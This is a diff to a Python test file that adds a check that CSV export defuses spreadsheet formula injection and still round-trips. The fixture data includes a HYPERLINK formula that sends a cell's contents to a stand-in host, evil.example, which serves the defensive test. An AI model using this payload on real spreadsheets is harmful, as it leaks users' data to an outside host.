@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
 import pytest
 import yaml
-from ingest_helpers import cli, fingerprint_from_empty
+from ingest_helpers import cli, edit_yaml, fingerprint_from_empty, record, seed_copy
 
 from govgraph.graph.db import Database
 from govgraph.graph.models import record_models
@@ -15,6 +17,29 @@ from govgraph.graph.revision import graph_fingerprint
 from govgraph.ingest.export import read_csv, read_graph, write_csv, write_yaml
 from govgraph.ingest.validate import Dataset, load_dataset
 from govgraph.ingest.writer import ingest
+
+# Text a spreadsheet would run as a formula (OWASP's characters), and text that only looks close.
+FORMULA_VALUES = {
+    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Meta")',
+    "summary": "@SUM(1+1) releases open-weight models",
+    "event_summary": "+1 pressed Meta to join the voluntary review.",
+    "title": "-2+3 and a title",
+}
+FORMULA_ALIASES = ["-3", "'=already quoted", "'plain apostrophe", "''+two quotes", "Meta"]
+
+
+def formula_folder(folder: Path) -> Path:
+    """The seed file with formula-like text in an actor, an event and a source."""
+    folder.mkdir(parents=True, exist_ok=True)
+    with edit_yaml(seed_copy(folder)) as data:
+        meta = record(data, "actors", "org:meta")
+        meta["name"] = FORMULA_VALUES["name"]
+        meta["summary"] = FORMULA_VALUES["summary"]
+        meta["aliases"] = FORMULA_ALIASES
+        event = record(data, "events", "event:2026-administration-presses-meta")
+        event["summary"] = FORMULA_VALUES["event_summary"]
+        data["sources"][0]["title"] = FORMULA_VALUES["title"]
+    return folder
 
 
 def dumps(dataset: Dataset) -> dict[str, dict[str, str]]:
@@ -106,8 +131,34 @@ def test_csv_export_round_trips_exactly(ingested: tuple[Database, Dataset], tmp_
         for name, rows in read_csv(tmp_path).items()
     }
     assert back == dumps(dataset)
-    header = (tmp_path / "events.csv").read_text().splitlines()[0]
-    assert header == "id,type,date,summary,status,participants,concerns,sources,note,recorded_at"
+    header = next(csv.reader(io.StringIO((tmp_path / "events.csv").read_text())))
+    assert ",".join(header) == (
+        "id,type,date,summary,status,participants,concerns,sources,note,recorded_at"
+    )
+
+
+def test_csv_export_defuses_formulas_and_still_round_trips(
+    clean_db: Database, tmp_path: Path
+) -> None:
+    dataset = load_dataset([formula_folder(tmp_path / "data")])
+    ingest(clean_db, dataset)
+    files = write_csv(read_graph(clean_db), tmp_path / "csv")
+    text = {f.name: f.read_text(encoding="utf-8") for f in files}
+    cells = [c for t in text.values() for row in csv.reader(io.StringIO(t)) for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'" + FORMULA_VALUES["name"] in cells
+    assert "'" + FORMULA_VALUES["summary"] in cells
+    assert "'" + FORMULA_VALUES["title"] in cells
+    models = record_models()
+    back = {
+        name: {
+            r["id"]: json.dumps(models[name].model_validate(r).dump(), sort_keys=True) for r in rows
+        }
+        for name, rows in read_csv(tmp_path / "csv").items()
+    }
+    assert back == dumps(dataset)
+    meta = next(r for r in read_csv(tmp_path / "csv")["Actor"] if r["id"] == "org:meta")
+    assert meta["name"] == FORMULA_VALUES["name"] and meta["aliases"] == FORMULA_ALIASES
 
 
 def test_the_export_ingests_into_the_same_graph_shape(
